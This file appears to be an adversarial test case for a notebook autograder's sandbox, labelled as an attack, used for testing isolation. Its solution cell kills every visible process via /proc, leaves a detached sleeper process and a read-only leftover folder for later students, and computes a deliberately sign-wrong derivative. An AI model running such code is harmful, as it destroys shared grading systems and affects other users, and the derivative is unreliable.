# kind: attack
# baseline: bug_dL_sign
# why: a wrong derivative, and a solution cell that SIGKILLs every process it can see (the grader's fork server, bubblewrap, other kernels), leaves a setsid'd double-forked sleeper and a read-only folder of files behind for the next student
# %% dLdOmega
import os, signal, subprocess, sys
subprocess.Popen([sys.executable, "-c", "import os, time\nif os.fork() == 0:\n    os.setsid(); time.sleep(600)"])
os.makedirs("/tmp/leftover/deep", exist_ok=True)
open("/tmp/leftover/deep/for_the_next_student.py", "w").write("EVIL = 1")
os.chmod("/tmp/leftover/deep", 0o500)
os.chmod("/tmp/leftover", 0o500)
for _pid in os.listdir("/proc"):
    if _pid.isdigit() and int(_pid) != os.getpid():
        try:
            os.kill(int(_pid), signal.SIGKILL)
        except OSError:
            pass
def dLdOmega(omega, prices_a, prices_b):
    d = prices_a - prices_b
    f = prices_b + omega * d
    return float(-2 * np.mean((f - np.mean(f)) * (d - np.mean(d))))
